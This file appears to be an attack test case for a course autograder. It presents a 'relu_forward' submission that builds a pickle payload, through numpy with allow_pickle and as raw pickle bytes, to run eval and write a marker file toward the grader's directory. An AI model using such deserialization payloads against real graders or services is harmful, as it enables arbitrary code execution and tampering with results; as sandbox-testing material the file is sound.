# /// attack
# tries = "unpickles a command in its own process, to reach the grader's from there"
# question = "relu_forward"
# control = true
# ///
# %%
class Bomb:
    def __reduce__(self):
        return (eval, ("open('@COURSE@/@PWNED@', 'w').write('x')",))


# %% question="relu_forward"
def relu_forward(x):
    import io, pickle
    import numpy as np

    file = io.BytesIO()
    try:
        np.save(file, np.array([Bomb()], object), allow_pickle=True)
        file.seek(0)
        return np.load(file, allow_pickle=True)
    except (AttributeError, pickle.PicklingError):
        return pickle.loads(b"cbuiltins\neval\n(S\"open('@COURSE@/@PWNED@', 'w')\"\ntR.")
